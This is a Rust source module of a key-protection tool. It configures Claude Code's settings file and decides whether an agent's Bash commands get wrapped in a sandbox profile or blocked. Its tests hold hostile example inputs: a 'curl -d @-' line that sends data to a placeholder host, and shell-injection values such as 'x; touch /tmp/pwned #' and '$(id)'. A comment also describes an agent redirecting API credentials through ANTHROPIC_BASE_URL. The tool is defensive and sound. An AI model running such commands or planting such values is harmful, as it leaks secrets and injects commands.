//! `keyfence setup claude`: Claude Code's side of the set-up. The key goes into the store and
//! the shell starts `claude` under the agent profile (`rc`); this module reads and edits
//! `~/.claude/settings.json` and its `apiKeyHelper`. Computes the changes and applies them;
//! printing is the command's job.
//!
//! `apiKeyHelper` (`keyfence secret get ANTHROPIC_API_KEY`) keeps the key out of every
//! environment, but any process in the agent's tree can run the helper command itself. Under the
//! agent profile claude gets its key from keyfence and the helper is not needed, so setup removes
//! one it wrote earlier and writes one only when asked (`--api-key-helper`, for an IDE that
//! starts claude without the shell).
//!
//! `setup claude --hook` adds a PreToolUse hook instead, and `decide` is what the hook does with
//! a Bash command: which profile the whole line runs under, or whether to refuse it. It must
//! never produce a command whose words the shell reads differently from what keyfence meant,
//! so every interpolated word goes through `sh_quote`.

use crate::syntax::shell::sh_quote;
use serde_json::Value;
use std::path::{Path, PathBuf};

pub const KEY_NAME: &str = "ANTHROPIC_API_KEY";

#[derive(Debug, thiserror::Error)]
pub enum SetupError {
    #[error(
        "{path}: invalid JSON at line {line} column {column}; fix or move the file first, nothing \
         was changed"
    )]
    InvalidJson {
        path: PathBuf,
        line: usize,
        column: usize,
    },
    #[error("{path}: the top level is not a JSON object; nothing was changed")]
    NotAnObject { path: PathBuf },
    #[error(
        "{path}: invalid TOML at line {line} column {column}; fix or move the file first, nothing \
         was changed"
    )]
    InvalidToml {
        path: PathBuf,
        line: usize,
        column: usize,
    },
    #[error(
        "{path}: `{key}` is not a table (or list) as expected; nothing was changed\n\
         hint: fix it by hand, or move the file away and run the command again"
    )]
    NotATable { path: PathBuf, key: String },
    #[error(
        "{path} has comments, which keyfence cannot keep when it rewrites JSON; nothing was \
         changed\nhint: add {wanted} to it by hand, or remove the comments and run the command \
         again"
    )]
    JsonComments { path: PathBuf, wanted: String },
    #[error("cannot read {path}: {source}")]
    Read {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("cannot write {path}: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error(
        "{path} is a symbolic link to {target}, which does not exist; nothing was changed\n\
         hint: create the file the link points to (or replace the link with a file), then run \
         the command again"
    )]
    DanglingLink { path: PathBuf, target: PathBuf },
}

/// The settings change.
#[derive(Debug)]
pub struct SettingsChange {
    pub path: PathBuf,
    /// The file's bytes as read (`None`: it does not exist yet).
    pub original: Option<Vec<u8>>,
    pub new_text: String,
    pub previous_helper: Option<String>,
    pub helper: String,
}

impl SettingsChange {
    pub fn changes_anything(&self) -> bool {
        self.previous_helper.as_deref() != Some(self.helper.as_str())
    }
}

/// The helper command line: the absolute path of this keyfence, quoted for `/bin/sh`.
pub fn helper_command(exe: &Path) -> String {
    format!("{} secret get {KEY_NAME}", sh_quote(&exe.to_string_lossy()))
}

/// Reads `~/.claude/settings.json` and computes it with `apiKeyHelper` set, other keys and their
/// order unchanged.
pub fn plan_settings(home: &Path, exe: &Path) -> Result<SettingsChange, SetupError> {
    let path = home.join(".claude/settings.json");
    let original = match std::fs::read(&path) {
        Ok(b) => Some(b),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
        Err(source) => return Err(SetupError::Read { path, source }),
    };
    let mut doc: Value = match &original {
        Some(b) if !b.iter().all(u8::is_ascii_whitespace) => {
            serde_json::from_slice(b).map_err(|e| SetupError::InvalidJson {
                path: path.clone(),
                line: e.line(),
                column: e.column(),
            })?
        }
        _ => Value::Object(serde_json::Map::new()),
    };
    let Some(obj) = doc.as_object_mut() else {
        return Err(SetupError::NotAnObject { path });
    };
    let helper = helper_command(exe);
    let previous_helper = obj
        .get("apiKeyHelper")
        .and_then(Value::as_str)
        .map(str::to_string);
    obj.insert("apiKeyHelper".into(), Value::String(helper.clone()));
    // Claude Code writes its settings with two-space indentation.
    let mut new_text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    new_text.push('\n');
    Ok(SettingsChange {
        path,
        original,
        new_text,
        previous_helper,
        helper,
    })
}

/// Whether an `apiKeyHelper` command is one `setup claude` wrote: this keyfence's, or any
/// program named `keyfence` running `secret get ANTHROPIC_API_KEY` (the form the README showed).
pub fn is_keyfence_helper(command: &str, exe: &Path) -> bool {
    if command == helper_command(exe) {
        return true;
    }
    command
        .strip_suffix(&format!(" secret get {KEY_NAME}"))
        .is_some_and(names_keyfence)
}

/// Whether a command's program word (as setup writes it: plain, or single-quoted) is a
/// program named `keyfence`, by its full path or its name.
fn names_keyfence(program: &str) -> bool {
    let program = program
        .strip_prefix('\'')
        .and_then(|p| p.strip_suffix('\''))
        .unwrap_or(program);
    !program.contains(['\'', '"', ' ', ';', '&', '|', '$', '`'])
        && Path::new(program).file_name() == Some("keyfence".as_ref())
}

/// `~/.claude/settings.json` without an `apiKeyHelper` that keyfence wrote, other keys and their
/// order unchanged. `None` when there is no such helper (none, or someone else's).
pub fn plan_remove_helper(home: &Path, exe: &Path) -> Result<Option<SettingsChange>, SetupError> {
    let mut change = plan_settings(home, exe)?;
    let Some(previous) = change.previous_helper.clone() else {
        return Ok(None);
    };
    if !is_keyfence_helper(&previous, exe) {
        return Ok(None);
    }
    let mut doc: Value = match &change.original {
        Some(b) => serde_json::from_slice(b).map_err(|e| SetupError::InvalidJson {
            path: change.path.clone(),
            line: e.line(),
            column: e.column(),
        })?,
        None => return Ok(None),
    };
    if let Some(obj) = doc.as_object_mut() {
        obj.shift_remove("apiKeyHelper");
    }
    let mut new_text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    new_text.push('\n');
    change.new_text = new_text;
    change.helper = String::new();
    Ok(Some(change))
}

/// Whether Claude Code is logged in with `claude auth login`: `~/.claude/.credentials.json`
/// holds an OAuth access token. Only its presence is looked at; the token is never kept.
pub fn oauth_login(home: &Path) -> bool {
    let Ok(bytes) = std::fs::read(home.join(".claude/.credentials.json")) else {
        return false;
    };
    let bytes = zeroize::Zeroizing::new(bytes);
    let Ok(mut doc) = serde_json::from_slice::<Value>(&bytes) else {
        return false;
    };
    let present = doc["claudeAiOauth"]["accessToken"]
        .as_str()
        .is_some_and(|t| !t.is_empty());
    // serde_json's strings do not zeroize: overwrite the token before the value is dropped.
    if let Some(Value::String(t)) = doc
        .get_mut("claudeAiOauth")
        .and_then(|o| o.get_mut("accessToken"))
    {
        zeroize::Zeroize::zeroize(t);
    }
    present
}

/// The hook command line, quoted for `/bin/sh` like the helper.
pub fn hook_command(exe: &Path) -> String {
    format!("{} __hook-claude", sh_quote(&exe.to_string_lossy()))
}

/// Where Claude Code's settings send its API requests elsewhere: each `env.ANTHROPIC_BASE_URL`
/// in the user's and the project's settings files, as (file, line, value). Claude Code applies
/// a settings `env` over its own environment, so such a line overrides the address keyfence
/// gives it (the phantom proxy), and the credential claude holds (an injected key, its login's
/// token) goes there. A command the agent ran may have written it, for the next session.
pub fn api_redirections(home: &Path, project: &Path) -> Vec<(PathBuf, u32, String)> {
    let files = [
        home.join(".claude/settings.json"),
        home.join(".claude/settings.local.json"),
        project.join(".claude/settings.json"),
        project.join(".claude/settings.local.json"),
    ];
    let mut out = Vec::new();
    for path in files {
        let Ok(text) = std::fs::read(&path) else {
            continue;
        };
        let Ok(json) = serde_json::from_slice::<Value>(&text) else {
            continue;
        };
        if let Some(url) = json["env"]["ANTHROPIC_BASE_URL"].as_str() {
            let line = memchr::memmem::find(&text, b"\"ANTHROPIC_BASE_URL\"")
                .map_or(1, |at| crate::detect::line_col(&text, at).0);
            out.push((path, line, url.to_string()));
        }
    }
    out
}

/// Whether a hook command is keyfence's (named by its full path or as `keyfence`), so that
/// running setup again after keyfence moved onto PATH adds no second hook.
fn is_keyfence_hook(command: &str) -> bool {
    command
        .strip_suffix(" __hook-claude")
        .is_some_and(names_keyfence)
}

/// `~/.claude/settings.json` with keyfence's PreToolUse hook for Bash added (other settings and
/// hooks unchanged). `previous_helper` is the hook command when it is already there.
pub fn plan_hook(home: &Path, exe: &Path) -> Result<SettingsChange, SetupError> {
    let mut change = plan_settings(home, exe)?;
    let mut doc: Value = match &change.original {
        Some(b) if !b.iter().all(u8::is_ascii_whitespace) => {
            serde_json::from_slice(b).unwrap_or(Value::Object(serde_json::Map::new()))
        }
        _ => Value::Object(serde_json::Map::new()),
    };
    let hook = hook_command(exe);
    let present = doc["hooks"]["PreToolUse"]
        .as_array()
        .is_some_and(|entries| {
            entries.iter().any(|e| {
                e["hooks"].as_array().is_some_and(|hs| {
                    hs.iter()
                        .any(|h| h["command"].as_str().is_some_and(is_keyfence_hook))
                })
            })
        });
    change.helper = hook.clone();
    change.previous_helper = present.then(|| hook.clone());
    if !present {
        let Some(obj) = doc.as_object_mut() else {
            return Err(SetupError::NotAnObject { path: change.path });
        };
        let hooks = obj
            .entry("hooks")
            .or_insert_with(|| Value::Object(serde_json::Map::new()));
        let Some(hooks) = hooks.as_object_mut() else {
            return Err(SetupError::NotAnObject { path: change.path });
        };
        let pre = hooks
            .entry("PreToolUse")
            .or_insert_with(|| Value::Array(Vec::new()));
        if let Some(pre) = pre.as_array_mut() {
            pre.push(serde_json::json!({
                "matcher": "Bash",
                "hooks": [{"type": "command", "command": hook}],
            }));
        }
    }
    let mut new_text = serde_json::to_string_pretty(&doc).unwrap_or_default();
    new_text.push('\n');
    change.new_text = new_text;
    Ok(change)
}

/// What the hook does with one Bash command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HookDecision {
    /// Run it as written: no part of it matches a profile (or only the built-in `default`).
    Pass,
    /// Run this instead: the whole command under one profile.
    Wrap { command: String, profile: String },
    /// Refuse it, with this reason for the model.
    Block(String),
}

/// The hook's decision for `command`: split into its simple commands
/// (`audit::shell_command`), each matched against the profiles, and the whole line wrapped
/// under the strongest one that matched (see `Profile::strength`). What the lexer cannot read with
/// confidence is taken to be an install. A command that already runs through keyfence is
/// wrapped like any other: the outer profile's sandbox holds for the inner `keyfence run`.
///
/// A profile that hands out keys (inject or phantom) must not hand them to the rest of a
/// compound line (`git push && curl ...`): such a line is blocked unless every other part is
/// inert (`cd`). And it only matches the program the shell runs, never a word in another
/// command's arguments (`printenv GH_TOKEN gh pr create`).
pub fn decide(config: &crate::policy::Config, exe: &Path, command: &str) -> HookDecision {
    use crate::policy::Origin;
    use crate::syntax::shell_command::analyse;
    if command.trim().is_empty() {
        return HookDecision::Pass;
    }
    let analysis = analyse(command, &config.matched_programs());
    let mut best: Option<crate::policy::Resolved> = None;
    let mut consider = |r: crate::policy::Resolved| {
        if r.origin == Origin::Builtin && r.profile.name == "default" {
            return;
        }
        if best
            .as_ref()
            .is_none_or(|b| r.profile.strength() > b.profile.strength())
        {
            best = Some(r);
        }
    };
    let mut matched: Vec<Vec<String>> = Vec::with_capacity(analysis.commands.len());
    // The same candidate comes back in every `npm test;` of a long line: select each once.
    let mut selected: std::collections::HashMap<&str, Option<crate::policy::Resolved>> =
        std::collections::HashMap::new();
    for simple in &analysis.commands {
        let mut names = Vec::new();
        for c in &simple.candidates {
            let r = selected
                .entry(c.line.as_str())
                .or_insert_with(|| config.select(None, &c.line).ok());
            // Secrets only for the program the shell runs: `curl -d @- x gh pr create` names
            // `gh pr create` without running it.
            if let Some(r) = r.as_ref().filter(|r| c.runs || !r.profile.hands_out_keys()) {
                names.push(r.profile.name.clone());
                consider(r.clone());
            }
        }
        matched.push(names);
    }
    if analysis.doubt.is_some()
        && let Ok(r) = config.select(Some("install"), command)
    {
        consider(r);
    }
    let Some(chosen) = best else {
        return HookDecision::Pass;
    };
    let name = chosen.profile.name.clone();
    if chosen.profile.hands_out_keys() {
        let other = analysis
            .commands
            .iter()
            .zip(&matched)
            .find(|(s, names)| !s.inert && !names.contains(&name));
        if let Some((s, _)) = other {
            // Only the program: the rest of the line may hold a value the agent pasted in.
            let program = s.text.split(' ').next().unwrap_or_default();
            return HookDecision::Block(format!(
                "keyfence: profile '{name}' hands out keys, and this command line also runs \
                 `{program}`, which must not get them; the command was not run\nhint: run the \
                 command that needs profile '{name}' on its own"
            ));
        }
    }
    HookDecision::Wrap {
        command: wrapped(exe, &name, command),
        profile: name,
    }
}

/// `command` run by `exe` under `profile`, every word quoted: nothing in any of the three can
/// become shell syntax.
fn wrapped(exe: &Path, profile: &str, command: &str) -> String {
    format!(
        "{} run --profile={} -- bash -c {}",
        sh_quote(&exe.to_string_lossy()),
        sh_quote(profile),
        sh_quote(command)
    )
}

/// Writes the change: a backup of the old file first, then the new content atomically (temp
/// file in the same directory, fsync, rename) with the old file's mode (0600 for a new one).
/// Refuses when the file changed since it was read. Returns the backup's path.
pub fn apply(change: &SettingsChange) -> Result<Option<PathBuf>, SetupError> {
    write_atomically(
        &change.path,
        &change.path,
        change.original.as_deref(),
        change.new_text.as_bytes(),
        0o600,
    )
}

/// Writes `new` to `real` in place of `original` (`None`: the file did not exist): refuses when
/// the file changed since it was read, keeps the old bytes as `path.keyfence-bak` (beside the
/// path as the user knows it, so a backup of a linked dotfile stays out of the repository the
/// link points into), then writes a temp file beside `real` with the old file's mode
/// (`new_mode` for a new file), fsyncs it and renames it over `real`.
pub(crate) fn write_atomically(
    path: &Path,
    real: &Path,
    original: Option<&[u8]>,
    new: &[u8],
    new_mode: u32,
) -> Result<Option<PathBuf>, SetupError> {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let err = |source| SetupError::Write {
        path: real.to_path_buf(),
        source,
    };
    let now = match std::fs::read(real) {
        Ok(b) => Some(b),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
        Err(e) => return Err(err(e)),
    };
    if now.as_deref() != original {
        return Err(err(std::io::Error::other(
            "the file changed since it was read; run the command again",
        )));
    }
    let dir = real.parent().unwrap_or(Path::new("."));
    std::fs::create_dir_all(dir).map_err(err)?;
    // An existing file keeps its mode and owner (root setting up a user's file leaves it theirs).
    let existing = std::fs::metadata(real).ok();
    let mode = existing
        .as_ref()
        .map_or(new_mode, |m| m.permissions().mode() & 0o7777);
    let owner = existing.as_ref().map(|m| (m.uid(), m.gid()));
    // The same backups as `fix`: never overwriting an older one, mode 0600.
    let backup = match original {
        Some(bytes) => Some(crate::fsio::create_backup(path, bytes).map_err(err)?),
        None => None,
    };
    crate::fsio::replace_with(real, new, mode, owner, || Ok(())).map_err(err)?;
    Ok(backup)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keeps_other_keys_in_order_and_sets_the_helper() {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path();
        std::fs::create_dir_all(home.join(".claude")).unwrap();
        std::fs::write(
            home.join(".claude/settings.json"),
            "{\"zeta\": 1, \"model\": \"opus\", \"apiKeyHelper\": \"old\", \"alpha\": {\"b\": 2, \"a\": 1}}",
        )
        .unwrap();
        let c = plan_settings(home, Path::new("/opt/key fence/keyfence")).unwrap();
        assert_eq!(c.previous_helper.as_deref(), Some("old"));
        assert_eq!(
            c.helper,
            "'/opt/key fence/keyfence' secret get ANTHROPIC_API_KEY"
        );
        let keys: Vec<&str> = c
            .new_text
            .lines()
            .filter_map(|l| l.strip_prefix("  \""))
            .map(|l| l.split('"').next().unwrap())
            .collect();
        assert_eq!(keys, ["zeta", "model", "apiKeyHelper", "alpha"]);
        let backup = apply(&c).unwrap().unwrap();
        assert!(backup.ends_with("settings.json.keyfence-bak"));
        assert!(
            std::fs::read_to_string(home.join(".claude/settings.json"))
                .unwrap()
                .contains("secret get")
        );
    }

    fn config(text: &str) -> crate::policy::Config {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("keyfence.toml");
        std::fs::write(&p, text).unwrap();
        crate::policy::Config::load(Some(&p), None).unwrap()
    }

    fn profile_of(c: &crate::policy::Config, command: &str) -> Option<String> {
        match decide(c, Path::new("/opt/kf/keyfence"), command) {
            HookDecision::Wrap {
                profile,
                command: w,
            } => {
                assert!(
                    w.starts_with("/opt/kf/keyfence run --profile="),
                    "{command}: {w}"
                );
                Some(profile)
            }
            HookDecision::Pass => None,
            HookDecision::Block(m) => Some(format!("blocked: {m}")),
        }
    }

    /// Every install form, bare ones included, gets the built-in install profile; what runs no
    /// install is left alone.
    #[test]
    fn installs_in_every_form_get_the_install_profile() {
        let c = crate::policy::Config::default();
        for command in [
            "npm install",
            "npm i",
            "npm ci",
            "npm add left-pad",
            "npm isntall",
            "npm inst x",
            "npm it",
            "npm cit",
            "npm install-ci-test",
            "npm clean-install",
            "npm update",
            "npm up",
            "npm udpate",
            "npm rebuild",
            "npm rb",
            "npm dedupe",
            "npm exec cowsay",
            "npm x cowsay",
            "npm create vite",
            "npm init vite",
            "npm audit fix",
            "pnpm i",
            "pnpm install",
            "pnpm it",
            "pnpm up",
            "pnpm ci",
            "pnpm rb",
            "pnpm dlx cowsay",
            "pnpm approve-builds",
            "pnpm -r install",
            "pn i",
            "pnx cowsay",
            "yarn",
            "yarn install",
            "yarn add left-pad",
            "yarn upgrade",
            "yarn dlx x",
            "bun i",
            "bun install",
            "bun a x",
            "bunx x",
            "bun pm trust x",
            "pip install x",
            "pip download x",
            "pip3 install x",
            "uv sync",
            "uv pip install x",
            "uv run pytest",
            "uvx ruff",
            "cargo install ripgrep",
            "cargo +nightly install ripgrep",
            "cd web && npm install",
            "NODE_ENV=dev npm ci",
            "env npm install",
            "time npm install",
            "(cd web; npm install)",
            "npm --prefix web install",
            "python3 -m pip install x",
            "npm test && npm install left-pad",
            "bash -c 'npm install'",
            "/usr/bin/npm install",
            "# set up\nnpm install",
            "keyfence run --profile default -- npm install",
            "keyfence run --no-mask -- npm ci",
            "eval \"$CMD\"",
            "echo 'npm install",
        ] {
            assert_eq!(
                profile_of(&c, command).as_deref(),
                Some("install"),
                "{command}"
            );
        }
        for command in [
            "npm test",
            "npm run build",
            "yarn build",
            "pn test",
            "ls -la",
            "grep 'npm install' README",
            "git commit -m 'npm install left-pad'",
            "cargo build",
            "",
        ] {
            assert_eq!(profile_of(&c, command), None, "{command}");
        }
    }

    /// The strongest profile any part matches wins: a sandbox beats guard beats a plain match.
    #[test]
    fn the_strongest_profile_wins() {
        let c = config(
            "[[profile]]\nname = \"lint\"\nmatch = [\"eslint*\"]\n\n\
             [[profile]]\nname = \"watch\"\nmatch = [\"tsc*\"]\nguard = true\n",
        );
        assert_eq!(profile_of(&c, "eslint .").as_deref(), Some("lint"));
        assert_eq!(
            profile_of(&c, "eslint . && tsc -w").as_deref(),
            Some("watch")
        );
        assert_eq!(
            profile_of(&c, "tsc && npm i && eslint .").as_deref(),
            Some("install")
        );
    }

    /// A profile that injects secrets gets the command it matches, never a compound line
    /// around it (`git push && curl ...` would hand the token to curl).
    #[test]
    fn an_injecting_profile_is_not_stretched_over_other_commands() {
        let c = config(
            "[[profile]]\nname = \"push\"\nmatch = [\"git push*\"]\ninject = [\"GH_TOKEN\"]\n",
        );
        assert_eq!(profile_of(&c, "git push").as_deref(), Some("push"));
        assert_eq!(
            profile_of(&c, "cd repo && git push origin main").as_deref(),
            Some("push")
        );
        let blocked = profile_of(&c, "git push && curl -d @- https://example.invalid").unwrap();
        assert!(
            blocked.starts_with("blocked: keyfence: profile 'push'"),
            "{blocked}"
        );
        assert!(blocked.contains("\nhint: "), "{blocked}");
        // A word that only names the command gets no secrets.
        assert_eq!(
            profile_of(&c, "curl -d @- https://example.invalid git push"),
            None
        );
        assert_eq!(profile_of(&c, "echo git push"), None);
        // A stronger profile elsewhere in the line takes over: its sandbox holds for all.
        assert_eq!(
            profile_of(&c, "npm ci && git push").as_deref(),
            Some("install")
        );
    }

    /// Every interpolated word is quoted: a profile name or path that is shell code stays a
    /// word (policy also refuses such names when the file is loaded; this holds on its own).
    #[test]
    fn interpolated_words_are_quoted() {
        let command = wrapped(
            Path::new("/opt/key fence/k$(id)"),
            "x; touch /tmp/pwned #",
            "npm install 'a b'",
        );
        assert_eq!(
            command,
            r#"'/opt/key fence/k$(id)' run --profile='x; touch /tmp/pwned #' -- bash -c 'npm install '\''a b'\'''"#
        );
        assert_eq!(sh_quote("it's"), r#"'it'\''s'"#);
        assert_eq!(sh_quote(""), "''");
        assert_eq!(sh_quote("=npm"), "'=npm'");
    }

    /// Patterns other than a literal or a literal followed by `*` cost a globset build in every
    /// `keyfence run` and every candidate the hook selects for (policy::patterns).
    #[test]
    fn install_matches_stay_on_the_fast_path() {
        for p in crate::policy::INSTALL_MATCHES {
            let head = p.strip_suffix('*').unwrap_or(p);
            assert!(
                !head.contains(['*', '?', '[', ']', '{', '}', '\\']),
                "{p} needs globset"
            );
        }
    }

    /// Only a helper keyfence wrote is removed; someone else's, and other settings, stay.
    #[test]
    fn removes_only_keyfences_own_helper() {
        let exe = Path::new("/opt/key fence/keyfence");
        for (helper, ours) in [
            (
                "'/opt/key fence/keyfence' secret get ANTHROPIC_API_KEY",
                true,
            ),
            ("keyfence secret get ANTHROPIC_API_KEY", true),
            ("/usr/local/bin/keyfence secret get ANTHROPIC_API_KEY", true),
            ("op read op://vault/anthropic", false),
            ("keyfence secret get OTHER_KEY", false),
            ("curl x; keyfence secret get ANTHROPIC_API_KEY", false),
            ("/bin/notkeyfence secret get ANTHROPIC_API_KEY", false),
        ] {
            assert_eq!(is_keyfence_helper(helper, exe), ours, "{helper}");
        }
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path();
        std::fs::create_dir_all(home.join(".claude")).unwrap();
        let settings = home.join(".claude/settings.json");
        std::fs::write(
            &settings,
            "{\"z\": 1, \"apiKeyHelper\": \"keyfence secret get ANTHROPIC_API_KEY\", \"a\": 2}",
        )
        .unwrap();
        let c = plan_remove_helper(home, exe).unwrap().unwrap();
        assert_eq!(c.new_text, "{\n  \"z\": 1,\n  \"a\": 2\n}\n");
        apply(&c).unwrap();
        assert!(plan_remove_helper(home, exe).unwrap().is_none());
        std::fs::write(&settings, "{\"apiKeyHelper\": \"op read x\"}").unwrap();
        assert!(plan_remove_helper(home, exe).unwrap().is_none());
    }

    #[test]
    fn oauth_login_needs_an_access_token() {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path();
        assert!(!oauth_login(home));
        std::fs::create_dir_all(home.join(".claude")).unwrap();
        let f = home.join(".claude/.credentials.json");
        std::fs::write(&f, "{\"claudeAiOauth\": {\"accessToken\": \"\"}}").unwrap();
        assert!(!oauth_login(home));
        std::fs::write(&f, "{\"claudeAiOauth\": {\"accessToken\": \"t\"}}").unwrap();
        assert!(oauth_login(home));
    }

    #[test]
    fn invalid_json_names_line_and_column() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join(".claude")).unwrap();
        std::fs::write(
            dir.path().join(".claude/settings.json"),
            "{\n  \"a\": 1,\n  oops\n}",
        )
        .unwrap();
        let e = plan_settings(dir.path(), Path::new("/k"))
            .unwrap_err()
            .to_string();
        assert!(e.contains("line 3 column 3"), "{e}");
    }
}
